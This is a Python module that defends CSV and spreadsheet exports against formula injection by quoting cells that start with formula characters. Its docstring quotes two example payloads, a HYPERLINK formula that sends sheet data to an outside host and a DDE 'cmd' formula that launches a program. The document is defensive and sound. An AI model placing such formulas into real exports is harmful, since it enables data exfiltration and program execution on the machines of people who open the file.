"""Exported text made inert in the files people open: CSV and spreadsheets.

Every building, fee item, community id and description comes from another system,
where anyone could have typed anything. Opened as it came, such text can act:

a spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, after a leading tab or carriage return, still treats it as one) as a
formula: ``=HYPERLINK("http://…/?x="&A1,"点我")`` sends the sheet's data away when
clicked, ``=cmd|' /C calc'!A0`` asks to start a program (CSV injection, OWASP).

The rules are here, in one place, so that every writer applies the same ones:
CSV cells get the OWASP quote (:func:`inert_csv_cell`, :func:`inert_csv_frame`,
:func:`inert_csv` for the whole file), spreadsheet cells are written as typed
strings (``tasks/spreadsheet.py`` asks :func:`formula_like`).
"""

from __future__ import annotations

from collections.abc import Iterable

import pandas as pd

# What a spreadsheet program takes for the start of a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read the text as a formula rather than as text."""
    return text.startswith(FORMULA_START)


def inert_csv_cell(text: str) -> str:
    """The text as a CSV cell no spreadsheet runs: a formula-like start gets a ``'`` before it.

    The quote is the OWASP rule: Excel and LibreOffice show ``'=1+1`` as the text
    ``'=1+1``; the data person sees the cell was changed, and what it said.
    """
    return QUOTE + text if formula_like(text) else text


def inert_csv_frame(frame: pd.DataFrame, columns: Iterable[str]) -> pd.DataFrame:
    """A copy of ``frame`` whose text ``columns`` hold :func:`inert_csv_cell` of each cell.

    Vectorized: one ``startswith`` per column. Missing cells stay missing; columns
    not named (numbers, a JSON column that must stay parseable) are not touched.
    """
    out = frame.copy()
    for column in columns:
        text = out[column]
        risky = text.str.startswith(FORMULA_START).fillna(False).astype(bool)
        if risky.any():
            out[column] = text.mask(risky, QUOTE + text)
    return out


def inert_csv(frame: pd.DataFrame, columns: Iterable[str]) -> str:
    """``frame`` as CSV text with its text ``columns`` inert, rows ending in CRLF.

    CRLF (RFC 4180) because the csv module quotes a cell only for the characters
    of the line ending: with pandas' ``\\n`` a cell holding a bare ``\\r`` went out
    unquoted, and a spreadsheet starts a new row there, so ``x\\r=1+1`` would put
    ``=1+1`` at the start of a row, after the quote had been added to ``x``.
    """
    return inert_csv_frame(frame, columns).to_csv(index=False, lineterminator="\r\n")
